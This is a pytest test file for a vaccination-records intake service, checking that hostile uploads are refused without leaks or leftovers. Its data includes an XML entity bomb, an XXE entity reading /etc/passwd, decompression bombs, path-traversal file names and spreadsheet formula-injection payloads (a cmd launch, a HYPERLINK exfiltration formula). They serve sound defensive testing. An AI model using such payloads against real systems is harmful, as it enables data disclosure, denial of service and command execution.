"""Files that nobody should send: each is answered with a place and a reason, and leaves nothing behind."""

from __future__ import annotations

import csv
import gzip
import io
import itertools
import os
import re
import threading
import time
import zipfile
from collections.abc import Callable, Iterator
from contextlib import contextmanager

import psutil
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
import xlsxwriter
from app_world import (
    CLINIC,
    FIELDS,
    HEADINGS,
    PACK,
    Answer,
    World,
    csv_bytes,
    csv_text,
    open_world,
    row,
)
from hypothesis import example, given, settings
from hypothesis import strategies as st

from kangshu import lake
from kangshu.app.files import find_files
from kangshu.app.taking import take_in_files
from kangshu.intake import FileState, period_in_name
from kangshu.standards.tables import DEFAULT_LIMITS

pytestmark = pytest.mark.database

MIB = 1 << 20
ROW_LIMIT = DEFAULT_LIMITS.row_bytes  # so many characters are three times as many bytes
SECRET = "绝密内容XYZ"  # stands for everything that must never leave a cell
FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
ENDS = {FileState.COMMITTED, FileState.REJECTED, FileState.DUPLICATE, FileState.SUPERSEDED}


@pytest.fixture(scope="module")
def world(database_server: str) -> Iterator[World]:
    with open_world(database_server, memory_mib=256) as opened:
        # Something stands already: a hostile file must not take its place.
        assert opened.send(csv_bytes([row(number) for number in range(3)])).state is FileState.COMMITTED
        yield opened


# --- the files --------------------------------------------------------------------------------------------


def secret_rows(count: int = 5, **changes: str) -> list[dict[str, str]]:
    return [row(number, patient_name=SECRET, **changes) for number in range(100, 100 + count)]


def secret_csv() -> bytes:
    return csv_bytes(secret_rows())


def headed(*headings: str) -> bytes:
    return csv_text(secret_rows(), headings=headings).encode()


def wide(columns: int) -> bytes:
    text = io.StringIO()
    writer = csv.writer(text)
    writer.writerow([*HEADINGS, *(f"附加列{number}" for number in range(columns - len(HEADINGS)))])
    cells = [secret_rows(1)[0][field.name] for field in FIELDS]
    writer.writerow([*cells, *([SECRET] * (columns - len(HEADINGS)))])
    return text.getvalue().encode()


def in_gzip(content: bytes) -> bytes:
    return gzip.compress(content, mtime=0)


def in_zip(members: dict[str, bytes]) -> bytes:
    packed = io.BytesIO()
    with zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return packed.getvalue()


def in_xlsx(rows: list[dict[str, str]]) -> bytes:
    book = io.BytesIO()
    with xlsxwriter.Workbook(book, {"strings_to_formulas": False, "strings_to_urls": False}) as workbook:
        sheet = workbook.add_worksheet()
        sheet.write_row(0, 0, HEADINGS)
        for number, one in enumerate(rows, 1):
            sheet.write_row(number, 0, [one[field.name] for field in FIELDS])
    return book.getvalue()


def in_parquet(rows: list[dict[str, str]]) -> bytes:
    content = io.BytesIO()
    pq.write_table(pa.table({field.name: [one[field.name] for one in rows] for field in FIELDS}), content)
    return content.getvalue()


FORMS: dict[str, Callable[[list[dict[str, str]]], bytes]] = {
    "csv": csv_bytes,
    "csv-in-gzip": lambda rows: in_gzip(csv_bytes(rows)),
    "csv-in-zip": lambda rows: in_zip({"接种.csv": csv_bytes(rows)}),
    "xlsx": in_xlsx,
    "parquet": in_parquet,
}


def with_part(book: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """Return a workbook with one of its parts changed."""
    with zipfile.ZipFile(io.BytesIO(book)) as archive:
        return in_zip(
            {
                name: change(archive.read(name)) if name == part else archive.read(name)
                for name in archive.namelist()
            }
        )


def doctype(declarations: bytes, entity: bytes) -> bytes:
    def change(part: bytes) -> bytes:
        part = part.replace(b"?>", b"?><!DOCTYPE sst [" + declarations + b"]>", 1)
        return part.replace(SECRET.encode(), b"&" + entity + b";")

    return with_part(in_xlsx(secret_rows()), "xl/sharedStrings.xml", change)


def laughs() -> bytes:
    names = "abcdefghij"
    first = b'<!ENTITY a "' + b"x" * 1000 + b'">'
    rest = [
        f'<!ENTITY {name} "{("&" + before + ";") * 10}">'.encode()
        for before, name in itertools.pairwise(names)
    ]
    return doctype(first + b"".join(rest), b"j")


def endless_sheet() -> bytes:
    return with_part(
        in_xlsx(secret_rows(1)),
        "xl/worksheets/sheet1.xml",
        lambda part: part.replace(b"<sheetData>", b"<sheetData>" + b" " * (96 * MIB), 1),
    )


def endless_parquet() -> bytes:
    return in_zip({"a.parquet": b"PAR1" + bytes(96 * MIB)})


def endless_row() -> bytes:
    # Members of a gzip file follow each other: a small one, again and again, is 3.2 GB of one row.
    return in_gzip((",".join(HEADINGS) + "\n").encode()) + in_gzip(b"a" * (32 * MIB)) * 100


def endless_directory() -> bytes:
    return in_zip({f"{'目' * 40}{number}.csv": b"" for number in range(35_000)})


HEADING = (",".join(HEADINGS) + "\n").encode()
UNPLACED = None  # the fault is the whole file's
REFUSED = {
    "0 bytes": (lambda: b"", UNPLACED),
    "blank lines only": (lambda: b"\r\n \r\n\t\r\n", UNPLACED),
    "headings only": (lambda: HEADING, "row 1"),
    "headings only, no line end": (lambda: HEADING.strip(), "row 1"),
    "no row passes": (lambda: csv_bytes(secret_rows(40, vaccinated_at=SECRET)), UNPLACED),
    "every row ragged": (lambda: HEADING + f"{SECRET},{SECRET}\n".encode() * 40, UNPLACED),
    "a byte that is no UTF-8": (lambda: secret_csv().replace(b"V00102", b"V\xff\xfe02"), "line 4"),
    "Latin-1": (lambda: secret_csv().decode().encode("latin-1", "replace") + b"Jos\xe9\x20\n", "line"),
    "Shift JIS": (lambda: secret_csv().decode().encode("shift_jis", "replace"), "row 1"),
    "UTF-16 without its mark": (lambda: secret_csv().decode().encode("utf-16-le"), None),
    "UTF-32": (lambda: secret_csv().decode().encode("utf-32"), None),
    "NUL in a heading": (lambda: secret_csv().replace("姓名".encode(), b"\0\0\0\0\0\0", 1), None),
    "every byte there is": (lambda: bytes(range(256)) * 64, None),
    "two equal headings": (lambda: headed(*HEADINGS[:-1], HEADINGS[0]), "row 1, column 20"),
    "a missing heading": (lambda: headed(*HEADINGS[:-1], ""), "row 1, column 20"),
    "a missing required column": (lambda: headed("无此字段", *HEADINGS[1:]), "row 1"),
    "another table": (lambda: f"甲,乙\n{SECRET},2\n".encode(), "row 1"),
    "no headings, data at once": (lambda: secret_csv().split(b"\n", 1)[1], "row 1"),
    "1,000 unknown columns": (lambda: wide(1000), "row 1"),
    "1,100 columns": (lambda: wide(1100), None),
    "a row over the limit": (lambda: csv_bytes(secret_rows(2, manufacturer="长" * ROW_LIMIT)), "row 2"),
    "an open quote": (lambda: secret_csv() + f'"{SECRET},'.encode(), "row 7"),
    "PDF": (lambda: b"%PDF-1.7\n" + secret_csv(), None),
    "a page of HTML": (lambda: b"<html><body><table>" + secret_csv(), None),
    "JSON": (lambda: b'[{"name": "x"}]', None),
    "HL7": (lambda: b"MSH|^~\\&|A|B|C|D|202603020830||ADT^A01|1|P|2.5\r", None),
    "an old Excel file": (lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), None),
    "two files in a zip": (lambda: in_zip({"a.csv": secret_csv(), "b.csv": secret_csv()}), None),
    "a zip in a zip": (lambda: in_zip({"a.zip": in_zip({"a.csv": secret_csv()})}), None),
    "an empty zip": (lambda: in_zip({}), None),
    "entities that multiply": (laughs, None),
    "an entity that reads files": (lambda: doctype(b'<!ENTITY a SYSTEM "file:///etc/passwd">', b"a"), None),
    "a name in place of the sender's code": (lambda: csv_bytes(secret_rows(institution_code=SECRET)), None),
    "a number of 900,000 places as the sender": (
        lambda: csv_bytes(secret_rows(1, institution_code="9" * 900_000)),
        None,
    ),
    "a resident number as the sender": (
        lambda: csv_bytes(secret_rows(institution_code="990102196805121016")),
        None,
    ),
}


def assert_refused(answer: Answer, *, place: str | None) -> None:
    receipt = answer.receipt
    assert receipt.state is FileState.REJECTED
    assert receipt.finished_at is not None
    assert receipt.accepted == receipt.persons_created == 0
    assert receipt.reason is not None
    assert re.search("[一-鿿]", receipt.reason.zh)
    assert re.search("[a-z]{3}", receipt.reason.en)
    if place is not None:
        assert (receipt.place or "").startswith(place)


def assert_tells_no_value(world: World, answer: Answer, *values: str) -> None:
    told = world.record_of(answer.receipt.id) + answer.listed
    for value in (SECRET, *values):
        assert value not in told


@pytest.mark.parametrize("case", REFUSED)
def test_a_hostile_file_is_refused_with_its_reason_and_leaves_nothing(world: World, case: str, caplog):
    make, place = REFUSED[case]
    # Where the sender is in doubt, nobody has said who it is.
    institution = None if "sender" in case else CLINIC
    before = world.traces()

    answer = world.send(make(), institution=institution)

    assert_refused(answer, place=place)
    assert_tells_no_value(world, answer, "990102196805121016", "99999999")
    assert world.traces() == before, "no row, person, institution or file more than before"
    assert SECRET not in caplog.text


@pytest.mark.parametrize("share", [0.2, 0.5, 0.9, 0.995])
@pytest.mark.parametrize("form", FORMS)
def test_a_file_that_was_cut_off_is_refused_wherever_the_cut_is(world: World, form: str, share: float):
    # Cells that do not compress: a cut in the middle of the bytes is a cut in the middle of the rows.
    rows = [row(number, batch_number=f"{number * 0x9E3779B97F4A7C15 % (1 << 64):x}") for number in range(300)]
    whole = FORMS[form](rows)
    before = world.traces()

    answer = world.send(whole[: int(len(whole) * share)])

    assert_refused(answer, place=None)
    assert world.traces() == before


@pytest.mark.parametrize("form", FORMS)
def test_the_same_rows_come_in_in_every_form(world: World, form: str):
    answer = world.send(FORMS[form](secret_rows(7)), name=f"{form}_2026-04.dat")

    assert (answer.state, answer.receipt.accepted) == (FileState.COMMITTED, 7)


@pytest.mark.parametrize(
    "make",
    [laughs, endless_sheet, endless_parquet, endless_row, endless_directory],
    ids=lambda make: make.__name__,
)
def test_a_bomb_goes_off_in_bounded_memory(world: World, make: Callable[[], bytes]):
    bomb = make()
    before = world.traces()

    with watched_memory() as most:
        answer = world.send(bomb)

    assert_refused(answer, place=None)
    assert most() < 256 * MIB
    assert world.traces() == before


@contextmanager
def watched_memory() -> Iterator[Callable[[], int]]:
    """Watch the resident memory of this process; the value called gives its largest growth so far."""
    process = psutil.Process()
    start = largest = process.memory_info().rss
    done = threading.Event()

    def watch() -> None:
        nonlocal largest
        while not done.is_set():
            largest = max(largest, process.memory_info().rss)
            time.sleep(0.005)

    thread = threading.Thread(target=watch)
    thread.start()
    try:
        yield lambda: largest - start
    finally:
        done.set()
        thread.join()


# --- rows -------------------------------------------------------------------------------------------------

BAD_ROWS = {
    "30 February": ({"vaccinated_at": "20240230"}, "type", "vaccinated_at"),
    "24:61": ({"vaccinated_at": "2026-03-05 24:61:00"}, "type", "vaccinated_at"),
    "a serial number beyond time": ({"birth_date": "99999999"}, "type", "birth_date"),
    "1e999": ({"dose_number": "1e999"}, "type", "dose_number"),
    "400 nines": ({"dose_number": "9" * 400}, "type", "dose_number"),
    "not a number": ({"dose_number": "NaN"}, "type", "dose_number"),
    "infinity": ({"dose_number": "-Infinity"}, "type", "dose_number"),
    "digits of another script": ({"dose_number": "٣٤٥"}, "type", "dose_number"),
    "a formula for a number": ({"dose_number": "=1+1"}, "type", "dose_number"),
    "a formula for a date": ({"birth_date": "@TODAY()"}, "type", "birth_date"),
    "NUL": ({"manufacturer": "a\0b"}, "nul", "manufacturer"),
    "a cell of 1.5 MB": ({"manufacturer": "长" * (MIB // 2)}, "field-too-long", "manufacturer"),
    "a cell longer than declared": ({"site": "位" * 51}, "length", "site"),
    "another institution's row": (
        {"institution_code": "99000102699010211A1001"},
        "institution",
        "institution_code",
    ),
}


@pytest.mark.parametrize("case", BAD_ROWS)
def test_a_bad_cell_costs_its_row_and_names_row_field_and_reason(world: World, case: str):
    changes, rule, field = BAD_ROWS[case]
    rows = [row(200), row(201, patient_name=SECRET, **changes), row(202)]

    answer = world.send(csv_bytes(rows), name=f"{case}_2026-05.csv")

    assert answer.state is FileState.COMMITTED
    assert (answer.receipt.accepted, answer.receipt.rejected) == (2, 1)
    named = {(line[0], line[2], line[3]) for line in answer.lines}
    assert ("3", next(one.code or one.name for one in FIELDS if one.name == field), rule) in named
    assert all(line[4] and line[5] for line in answer.lines)
    assert_tells_no_value(world, answer, *(value for value in changes.values() if len(value) > 5))


@pytest.mark.parametrize(
    "value", ["1e999", "-1e999", "NaN", "inf", "9" * 300, "0x1F", "1,5e3", "１２e９９９"]
)
def test_a_number_that_is_none_is_refused_as_such(world: World, value: str):
    fields = PACK.datasets["lab_result"].fields
    good = {field.name: field.example for field in fields} | {"institution_code": CLINIC}
    text = io.StringIO()
    writer = csv.DictWriter(text, list(good))
    writer.writeheader()
    writer.writerows([good, good | {"item_number": "2", "value_number": value}])

    answer = world.send(text.getvalue().encode(), name="lab_result_2026-03.csv")

    assert (answer.receipt.dataset, answer.receipt.accepted, answer.receipt.rejected) == ("lab_result", 1, 1)
    assert ("type", "value_number") in {(one.rule, one.field) for one in answer.reasons}
    assert_tells_no_value(world, answer)


def test_rows_with_too_few_or_too_many_cells_are_listed_and_the_others_taken(world: World):
    good = csv_text(secret_rows()).encode()
    short, long = f"{SECRET},b\n".encode(), good.splitlines()[1] + f",{SECRET}\r\n".encode()

    answer = world.send(good + short + long, name="ragged_2026-05.csv")

    assert (answer.receipt.accepted, answer.receipt.rejected) == (5, 2)
    assert [(line[0], line[3]) for line in answer.lines] == [("7", "ragged"), ("8", "ragged")]
    assert_tells_no_value(world, answer)


def test_a_formula_in_a_text_cell_stays_the_text_that_it_is(world: World):
    rows = [row(300, manufacturer=FORMULA), row(301, manufacturer="@SUM(1+1)*cmd|' /C calc'!A0")]

    answer = world.send(csv_bytes(rows), name="formula_2026-06.csv")

    assert answer.receipt.accepted == 2
    assert column_in_lake(world, answer.receipt.id, "manufacturer") == {one["manufacturer"] for one in rows}
    assert_tells_no_value(world, answer, "HYPERLINK", "cmd|")


def test_the_list_of_refused_rows_holds_nothing_that_a_spreadsheet_would_run(world: World):
    rows = [row(310), row(311, dose_number=FORMULA, patient_name="=cmd|' /C calc'!A0", vaccinated_at="+1")]

    answer = world.send(csv_bytes(rows), name="formula_2026-07.csv")

    assert answer.receipt.rejected == 1
    assert not [cell for line in answer.lines for cell in line if cell.startswith(("=", "+", "-", "@", "\t"))]
    assert_tells_no_value(world, answer, "HYPERLINK", "cmd|")


def test_a_workbook_gives_the_saved_results_of_its_formulas_and_refuses_errors(world: World):
    book = io.BytesIO()
    with xlsxwriter.Workbook(book) as workbook:
        sheet = workbook.add_worksheet()
        sheet.write_row(0, 0, HEADINGS)
        place = HEADINGS.index("疫苗生产厂家名称")
        for number in (1, 2, 3):
            sheet.write_row(number, 0, [row(320 + number)[field.name] for field in FIELDS])
        sheet.write_formula(1, place, FORMULA, None, "算出来的厂家")
        sheet.write_formula(2, place, "=1/0", None, "#DIV/0!")

    answer = world.send(book.getvalue(), name="workbook_2026-06.xlsx")

    assert (answer.receipt.accepted, answer.receipt.rejected) == (2, 1)
    assert answer.lines[0][0] == "3"
    assert answer.lines[0][3] == "cell-error"
    assert "算出来的厂家" in column_in_lake(world, answer.receipt.id, "manufacturer")


def test_rows_dated_outside_of_time_do_not_stop_the_file(world: World):
    days = ["9999-12-31", "0001-01-01", "2026-08-01"]
    rows = [row(330 + place, vaccinated_at=day) for place, day in enumerate(days)]

    answer = world.send(csv_bytes(rows), name="undated.csv")

    assert answer.state is FileState.COMMITTED
    assert answer.receipt.period == "2026-08-01"


def test_a_thousand_columns_are_read_where_the_sender_says_what_the_file_is(world: World):
    answer = world.send(wide(1000), name="wide_2026-05.csv", dataset="immunization")

    assert (answer.state, answer.receipt.accepted) == (FileState.COMMITTED, 1)
    assert sum(one.rule == "unknown_column" for one in answer.reasons) == 980
    assert_tells_no_value(world, answer)


def column_in_lake(world: World, receipt_id: int, name: str) -> set[str]:
    """Return the different values that a file brought into the lake."""

    async def read() -> set[str]:
        async with world.platform.database.connection() as connection:
            segments = await lake.live_segments(connection, dataset="immunization")
        found: set[str] = set()
        for segment in segments:
            table = pq.read_table(world.home / "lake" / segment.path, columns=["_file", name])
            found |= {one[name] for one in table.to_pylist() if one["_file"] == receipt_id}
        return found

    return world.run(read)


# --- names ------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    [
        "../../../../etc/cron.d/接种_2026-03.csv",
        "..\\..\\windows\\接种.csv",
        "接\n种\r\n\x1b[31m_2026-03.csv",
        "a\0b.csv",
        "\ud800\udcff.csv",
        "=HYPERLINK(A1).csv",
        "长" * 5000,
        "2026-05_2026-01.csv",
        "20260231.csv",
        "20٢٦-٠٣.csv",
        "/",
        "",
    ],
    ids=repr,
)
def test_whatever_a_file_is_called_it_is_taken_in_and_its_name_is_never_a_path(world: World, name: str):
    rows = [row(400, site=f"{abs(hash(name))}")]
    before = everything_below(world)

    answer = world.send(csv_bytes(rows), name=name, dataset="immunization")

    assert answer.state is FileState.COMMITTED
    assert answer.receipt.name.isprintable()
    assert not set("/\\\n\0") & set(answer.receipt.name)
    new = everything_below(world) - before
    assert all(path.startswith("lake/segments/") for path in new)


def everything_below(world: World) -> set[str]:
    home = world.home
    return {str(path.relative_to(home)) for path in home.rglob("*") if path.is_file()} | {
        str(path) for path in home.parent.iterdir()
    }


@given(st.text(st.characters(), max_size=40))
@example("20٢٦-03")
@example("2026-05_2026-01")
@settings(derandomize=True, database=None, deadline=None)
def test_no_name_is_too_odd_to_look_for_a_period_in(name: str):
    period = period_in_name(name)

    assert period is None or period.start < period.end


def test_a_folder_called_like_a_file_is_a_folder(world: World):
    folder = world.home.parent / "sent" / "接种_2026-09.csv"
    folder.mkdir(parents=True)
    (folder / "a_2026-09.csv").write_bytes(csv_bytes([row(500)]))

    async def take():
        return await take_in_files(world.platform, find_files([folder]), institution=CLINIC, quiet=True)

    result = world.run(take)

    assert (result["files"], result["accepted"], result["rejections"]) == (1, 1, [])


def test_what_is_no_file_is_named_and_the_others_are_taken(world: World):
    folder = world.home.parent / "odd"
    folder.mkdir()
    os.mkfifo(folder / "pipe.csv")
    (folder / "link.csv").symlink_to("/dev/zero")
    (folder / "a_2026-10.csv").write_bytes(csv_bytes([row(510)]))
    paths = [folder / "pipe.csv", folder / "link.csv", folder / "gone.csv", folder / "a_2026-10.csv"]

    async def take():
        return await take_in_files(world.platform, paths, institution=CLINIC, quiet=True)

    result = world.run(take)

    assert (result["files"], result["accepted"]) == (4, 1)
    assert sorted(one["file"] for one in result["rejections"]) == sorted(map(str, paths[:3]))
    assert all(one["reason"] and one["reason_en"] for one in result["rejections"])


# --- anything at all --------------------------------------------------------------------------------------

WHOLE = {form: make([row(number) for number in range(600, 612)]) for form, make in FORMS.items()}
STARTS = (b"", b"\x1f\x8b\x08", b"PK\x03\x04", b"PAR1", b"\xef\xbb\xbf", b"\xff\xfe", HEADING)
changes = st.lists(
    st.tuples(st.floats(0, 1), st.integers(0, 12), st.binary(max_size=12)), min_size=1, max_size=4
)


def mutated(whole: bytes, edits: list[tuple[float, int, bytes]]) -> bytes:
    """Return the file with stretches of it replaced by other bytes."""
    content = bytearray(whole)
    for share, length, replacement in edits:
        place = int(len(content) * share)
        content[place : place + length] = replacement
    return bytes(content)


def assert_answered(answer: Answer) -> None:
    receipt = answer.receipt
    assert receipt.state in ENDS
    assert receipt.state is not FileState.REJECTED or receipt.reason is not None
    assert receipt.rows == receipt.accepted + receipt.rejected


@given(st.sampled_from(STARTS), st.binary(max_size=300))
@settings(max_examples=60, derandomize=True, database=None, deadline=None)
def test_any_bytes_at_all_get_an_answer(world: World, start: bytes, rest: bytes):
    assert_answered(world.send(start + rest))


@given(st.sampled_from(sorted(WHOLE)), changes)
@settings(max_examples=120, derandomize=True, database=None, deadline=None)
def test_a_good_file_with_some_bytes_changed_gets_an_answer(
    world: World, form: str, edits: list[tuple[float, int, bytes]]
):
    assert_answered(world.send(mutated(WHOLE[form], edits)))


def test_after_all_this_the_folders_hold_nothing_that_was_left_over(world: World):
    traces = world.traces()

    assert (traces.incoming, traces.scratch, traces.drafts, traces.spool) == ((), (), (), ())
